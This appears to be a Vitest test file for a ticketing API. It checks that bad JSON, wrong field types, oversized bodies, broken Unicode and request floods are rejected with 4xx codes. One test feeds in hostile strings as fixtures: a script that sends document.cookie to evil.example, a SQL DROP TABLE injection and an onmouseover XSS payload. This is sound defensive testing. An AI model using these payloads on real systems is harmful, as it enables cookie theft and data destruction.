// Hostile and careless input: each is a clear 4xx that changes nothing, or — for odd but legal text —
// a 2xx that stores the text exactly as sent.
import { expect, it } from 'vitest';
import { describeDatabases } from '../../db/test-database.ts';
import { msk } from '../../domain/tickets/test-support.ts';
import { post, setUpTickets } from './test-support.ts';

const MONDAY = msk('2026-11-23T10:00');
const incident = { type: 'incident', priority: 'high', subject: 'Сбой', description: 'Описание' };
const raw = (url: string, payload: string, contentType = 'application/json') => ({
  method: 'POST' as const,
  url,
  payload,
  headers: { 'content-type': contentType },
});

describeDatabases('bad input', (suite) => {
  it('malformed JSON, wrong media type and oversized bodies: 400, 415, 413', async () => {
    const t = await setUpTickets(await suite.create(), MONDAY);
    const n = await t.file('own');
    const before = await t.stored();
    for (const url of ['/api/tickets', `/api/tickets/${n}/replies`]) {
      for (const payload of ['{"subject": ', '{subject: "x"}', "{'a':1}", '[1,]', '\u0000']) {
        const res = await t.as.customer.request(raw(url, payload));
        expect(res.statusCode, payload).toBe(400);
        expect(res.json().error.code).toBe('request.bad_json');
      }
      const xml = await t.as.customer.request(raw(url, '<ticket/>', 'application/xml'));
      expect(xml.statusCode).toBe(415);
      const text = await t.as.customer.request(raw(url, 'subject=x', 'text/plain'));
      expect(text.statusCode).toBe(400); // parsed as a string, which is not the object the route expects
      const huge = JSON.stringify({ ...incident, text: 'я'.repeat(600_000), description: 'x'.repeat(10) });
      const tooLarge = await t.as.customer.request(raw(url, huge));
      expect(tooLarge.statusCode).toBe(413);
      expect(tooLarge.json().error.code).toBe('request.too_large');
    }
    expect(await t.stored()).toEqual(before);
  });

  it('wrong types, missing or unknown fields and out-of-range lengths: 400 naming the field', async () => {
    const t = await setUpTickets(await suite.create(), MONDAY);
    const n = await t.file('own');
    const before = await t.stored();
    const cases: Array<[string, unknown]> = [
      ['/api/tickets', { ...incident, type: 1 }],
      ['/api/tickets', { ...incident, priority: 'urgent' }],
      ['/api/tickets', { ...incident, subject: ['a'] }],
      ['/api/tickets', { ...incident, description: { text: 'x' } }],
      ['/api/tickets', { ...incident, subject: undefined }],
      ['/api/tickets', { ...incident, subject: '   ' }],
      ['/api/tickets', { ...incident, subject: 'x'.repeat(301) }],
      ['/api/tickets', { ...incident, description: 'x'.repeat(20_001) }],
      ['/api/tickets', { ...incident, organizationId: t.other.organizationId }],
      ['/api/tickets', { ...incident, requesterId: t.world.lead.userId }],
      ['/api/tickets', { ...incident, status: 'closed' }],
      ['/api/tickets', [incident]],
      ['/api/tickets', '"incident"'],
      ['/api/tickets', 'null'],
      ['/api/tickets', '42'],
      [`/api/tickets/${n}/replies`, {}],
      [`/api/tickets/${n}/replies`, { text: '' }],
      [`/api/tickets/${n}/replies`, { text: 42 }],
      [`/api/tickets/${n}/replies`, { text: 'ok', internal: true }],
      [`/api/tickets/${n}/withdraw`, { reason: 'x' }],
      [`/api/tickets/${n}/disputes`, { text: 'x'.repeat(20_001) }],
    ];
    for (const [url, body] of cases) {
      const res = await t.as.customer.request(typeof body === 'string' ? raw(url, body) : post(url, body));
      expect(res.statusCode, JSON.stringify(body)?.slice(0, 80)).toBe(400);
      expect(res.json().error).toMatchObject({
        code: 'request.invalid',
        message: expect.stringMatching(/неверно/),
      });
    }
    const support: Array<[string, unknown]> = [
      [`/api/tickets/${n}/information-requests`, { kind: 'anything', text: 'x' }],
      [`/api/tickets/${n}/solutions`, { kind: 'solution' }],
      [`/api/tickets/${n}/parameters`, { priority: 'critical' }],
      [`/api/tickets/${n}/parameters`, { priority: 'critical', reason: 'x', deadline: {} }],
      [`/api/tickets/${n}/deadlines`, { clock: 'solution', dueAt: 'завтра', reason: 'x' }],
      [`/api/tickets/${n}/deadlines`, { clock: 'solution', dueAt: '2026-12-01T12:00:00', reason: 'x' }],
      [`/api/tickets/${n}/deadlines`, { clock: 'lunch', dueAt: null, reason: 'x' }],
      [`/api/tickets/${n}/assign`, { assigneeId: 'me' }],
      [`/api/tickets/${n}/assign`, {}],
      ['/api/tickets/12abc/notes', { text: 'x' }],
      ['/api/tickets/-1/notes', { text: 'x' }],
    ];
    for (const [url, body] of support) {
      const res = await t.as.lead.request(post(url, body));
      expect(res.statusCode, `${url} ${JSON.stringify(body)}`).toBe(400);
    }
    expect(await t.stored()).toEqual(before);
  });

  it('NUL characters and broken Unicode are refused with 400 instead of failing in the database', async () => {
    const t = await setUpTickets(await suite.create(), MONDAY);
    const n = await t.file('own');
    const before = await t.stored();
    for (const payload of [
      '{"type":"incident","priority":"high","subject":"a\\u0000b","description":"x"}',
      '{"type":"incident","priority":"high","subject":"ok","description":"\\ud800"}',
    ]) {
      expect((await t.as.customer.request(raw('/api/tickets', payload))).statusCode).toBe(400);
    }
    for (const payload of ['{"text":"a\\u0000"}', '{"text":"x\\udc00y"}']) {
      expect((await t.as.customer.request(raw(`/api/tickets/${n}/replies`, payload))).statusCode).toBe(400);
    }
    expect(await t.stored()).toEqual(before);
  });

  it('HTML, script and SQL metacharacters in a reply are stored and returned verbatim', async () => {
    const t = await setUpTickets(await suite.create(), MONDAY);
    const n = await t.file('own');
    const texts = [
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      "Robert'); DROP TABLE ticket_events;-- \\x00 %s %n $$ $1",
      '<b onmouseover="alert(1)">жирный</b> &amp; &lt; "кавычки" \u2028 😀',
    ];
    for (const text of texts) {
      const res = await t.as.customer.request(post(`/api/tickets/${n}/replies`, { text }));
      expect(res.statusCode).toBe(200);
      expect(res.json().conversation.at(-1)).toMatchObject({ type: 'customer_replied', text });
    }
    const history = await t.as.engineer.request({ method: 'GET', url: `/api/tickets/${n}/events` });
    const stored = history.json().items.filter((e: { type: string }) => e.type === 'customer_replied');
    expect(stored.map((e: { text: string }) => e.text)).toEqual(texts);
  });

  it('a flood from one user is cut off with 429 in the error envelope', async () => {
    const t = await setUpTickets(await suite.create(), MONDAY);
    const statuses: number[] = [];
    for (let i = 0; i < 125; i++) {
      statuses.push((await t.as.customer.request(post('/api/tickets', { nonsense: i }))).statusCode);
    }
    expect(statuses.slice(0, 120).every((s) => s === 400)).toBe(true);
    const limited = await t.as.customer.request(post('/api/tickets', incident));
    expect(limited.statusCode).toBe(429);
    expect(limited.json().error.code).toBe('request.rate_limited');
    // The budget is the user's: a colleague from another organization is not affected.
    expect((await t.otherCustomer.request(post('/api/tickets', incident))).statusCode).toBe(201);
    expect((await t.stored()).tickets).toBe(1);
  });

  it("an installation's own budgets (SROK_RATE_LIMIT_READ / _WRITE) replace the defaults", async () => {
    const t = await setUpTickets(await suite.create(), MONDAY, { ticketBudgets: { read: 3, write: 2 } });
    const filed = [];
    for (let i = 0; i < 3; i++)
      filed.push((await t.as.customer.request(post('/api/tickets', incident))).statusCode);
    expect(filed).toEqual([201, 201, 429]);
    const read = [];
    for (let i = 0; i < 4; i++)
      read.push((await t.as.engineer.request({ method: 'GET', url: '/api/tickets' })).statusCode);
    expect(read).toEqual([200, 200, 200, 429]);
    expect((await t.stored()).tickets).toBe(2);
  });
});
